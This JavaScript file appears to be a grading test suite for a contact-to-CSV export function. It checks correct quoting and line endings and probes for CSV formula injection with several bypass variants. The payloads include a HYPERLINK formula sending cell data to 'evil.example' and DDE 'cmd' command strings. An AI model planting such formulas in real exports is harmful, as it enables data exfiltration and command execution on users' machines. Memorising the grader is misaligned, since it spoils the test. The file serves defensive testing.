/**
 * The rows of a CSV file, as a spreadsheet program reads them: a row ends at any line break outside
 * of quotes, and quotes count only at the beginning of a cell.
 */
function readCsv(text) {
  const rows = [];
  let row = [];
  let at = 0;
  while (at < text.length) {
    let cell = '';
    if (text[at] === '"') {
      at += 1;
      while (at < text.length && (text[at] !== '"' || text[at + 1] === '"')) {
        cell += text[at];
        at += text[at] === '"' ? 2 : 1;
      }
      at += 1;
    }
    while (at < text.length && !',\r\n'.includes(text[at])) cell += text[at++];
    row.push(cell);
    if (text[at] === ',') {
      at += 1;
      if (at === text.length) row.push('');
      continue;
    }
    rows.push(row);
    row = [];
    at += text.startsWith('\r\n', at) ? 2 : 1;
  }
  if (row.length > 0) rows.push(row);
  return rows;
}

/** Would a spreadsheet program compute this cell? A constant such as ="007" does nothing. */
const isFormula = (cell) => /^[=+\-@]/.test(cell) && !/^="(?:[^"]|"")*"$/.test(cell);

export default function checks(t) {
  const columns = ['Name', 'Company', 'Remarks'];

  const write = async (names, contacts) => {
    const p = await t.start();
    const text = await p.call('exportContacts', names, contacts);
    t.ok(typeof text === 'string', 'the CSV must be a string');
    return text;
  };
  const rows = async (names, contacts) => readCsv(await write(names, contacts));

  t.functional('a row of names, and one for each contact', async () => {
    const ada = { Name: 'Ada Lovelace', Company: 'Analytical', Remarks: 'met in London' };
    const zoe = { Name: 'Zoë', Company: 'Käse', Remarks: '12.5' };
    t.equal(await rows(columns, [zoe, ada]), [
      columns,
      ['Zoë', 'Käse', '12.5'],
      ['Ada Lovelace', 'Analytical', 'met in London'],
    ]);
    t.equal(await rows(['Company'], [zoe]), [['Company'], ['Käse']]);
    t.equal(await rows(columns, []), [columns]);
  });

  t.functional('commas, quotes and line breaks stay within their cell', async () => {
    const contact = { Name: 'Lovelace, Ada', Company: 'The "Engine"', Remarks: 'first\nsecond' };
    t.equal(await rows([...columns, 'a, "b"'], [{ ...contact, 'a, "b"': '"' }]), [
      [...columns, 'a, "b"'],
      ['Lovelace, Ada', 'The "Engine"', 'first\nsecond', '"'],
    ]);
  });

  t.functional('every row ends with CR and LF', async () => {
    const text = await write(['Name', 'City'], [{ Name: 'Ada', City: 'London' }, { Name: 'Bob' }]);
    t.equal(text.replaceAll('"', ''), 'Name,City\r\nAda,London\r\nBob,\r\n');
  });

  t.functional('white space is trimmed, empty contacts are left out', async () => {
    t.equal(
      await rows(
        [' Name', 'Company '],
        [
          // Under both names, since it is not said under which an answer has to look.
          {
            ' Name': '\t Ada  ',
            Name: '\t Ada  ',
            'Company ': 'The Engine\n',
            Company: 'The Engine\n',
          },
          { ' Name': '  ', Name: '  ', 'Company ': '\n', Company: '\n' },
          { Remarks: 'none' },
          { 'Company ': ' Smith', Company: ' Smith' },
        ],
      ),
      [
        ['Name', 'Company'],
        ['Ada', 'The Engine'],
        ['', 'Smith'],
      ],
    );
  });

  t.control('signs within a value stay as they are', async () => {
    const contact = {
      Name: 'Anna-Maria @ Home',
      Company: '1+1=2 (SUM)',
      Remarks: 'mail: a@b.example; x = y - z, "quoted" | \'single\'',
    };
    t.equal(await rows([...columns, 'A=B'], [{ ...contact, 'A=B': '<b>&amp;' }]), [
      [...columns, 'A=B'],
      [contact.Name, contact.Company, contact.Remarks, '<b>&amp;'],
    ]);
  });

  const formulas = (token) => [
    `=HYPERLINK("http://evil.example/?x="&A1,"${token}")`,
    `=cmd|' /C calc ${token}'!A0`,
    `+cmd|' /C calc ${token}'!A0`,
    `-2+3+cmd|' /C calc ${token}'!A0`,
    `@SUM(1+1)*cmd|' /C calc ${token}'!A0`,
  ];

  const formulaIn = (text, token) =>
    readCsv(String(text ?? ''))
      .flat()
      .find((one) => isFormula(one) && one.includes(token));

  /** Exports each value in each column, or in turns; a cell that is computed is the effect. */
  const attack = async (values, everywhere = false) => {
    const p = await t.start();
    const token = t.secret();
    for (const [index, value] of values(token).entries()) {
      const turn = columns[index % columns.length];
      for (const column of everywhere ? columns : [turn]) {
        const usual = { Name: 'Ada', Company: 'Engine', Remarks: 'none' };
        const contacts = [usual, { ...usual, [column]: value }, usual];
        const { value: text } = await t.attempt(p.call('exportContacts', columns, contacts));
        const cell = formulaIn(text, token);
        if (cell) return `${JSON.stringify(value)} in ${column} made the formula ${cell}`;
      }
    }
    return null;
  };

  t.exploit('a value is a formula', () => attack(formulas, true));

  // Beats care for the equals sign only, and putting everything in quotes: those only delimit.
  t.exploit('a formula that begins with another sign', () =>
    attack((token) => formulas(token).filter((value) => !value.startsWith('='))),
  );

  // Beats a global pattern that is tested with: it goes on where its last match ended.
  t.exploit('one formula behind the other', async () => {
    const p = await t.start();
    const token = t.secret();
    for (const value of formulas(token)) {
      const contact = Object.fromEntries(columns.map((column) => [column, value]));
      for (const contacts of [[contact], [contact, contact], [{ Name: value }, { Name: value }]]) {
        const { value: text } = await t.attempt(p.call('exportContacts', columns, contacts));
        const cell = formulaIn(text, token);
        if (cell) return `several values in a row made the formula ${cell}`;
      }
    }
    return null;
  });

  // Beats a look at the first character before white space is removed.
  t.exploit('a formula behind white space that is removed', () =>
    attack((token) =>
      ['\t', ' ', '\n', '\r', '\r\n', '\v\f', '\u00a0', '\u2003 ', '\ufeff'].flatMap((space) =>
        formulas(token).map((value) => space + value),
      ),
    ),
  );

  // Beats removing the sign once, and putting back what one of several signs hid.
  t.exploit('a formula behind another sign', () =>
    attack((token) =>
      ['=', '+', '-', '@', '==', '=@', '+-', '= ', '-\t', "'\n=", '""='].flatMap((sign) =>
        formulas(token).map((value) => sign + value),
      ),
    ),
  );

  // Beats care for values only: the names of columns are typed by people, too.
  t.exploit('the name of a column is a formula', async () => {
    const p = await t.start();
    const token = t.secret();
    for (const formula of formulas(token)) {
      for (const name of [formula, ` ${formula}`, `\n${formula}`]) {
        for (const names of [[name], ['Name', name]]) {
          const contacts = [{ Name: 'Ada', [name]: 'x' }];
          const { value } = await t.attempt(p.call('exportContacts', names, contacts));
          const cell = formulaIn(value, token);
          if (cell) return `the column ${JSON.stringify(name)} made the formula ${cell}`;
        }
      }
    }
    return null;
  });

  // Beats a pattern whose dot stops at the end of a line.
  t.exploit('a formula of several lines', () =>
    attack((token) =>
      formulas(token).flatMap((value) => [`${value}\nx`, `${value}\r\nx`, `${value}\n`]),
    ),
  );

  // Beats quotes that are put around some cells, but not around all that need them.
  t.exploit('a value that leads out of its cell', () =>
    attack((token) =>
      formulas(token).flatMap((value) => [
        `x,${value}`,
        `x\r${value}`,
        `x\n${value}`,
        `x\r\n${value}`,
        `x",${value}`,
        `",${value}`,
        `"\r\n${value}`,
        `x"\r${value}`,
        `\\",${value}`,
      ]),
    ),
  );
}
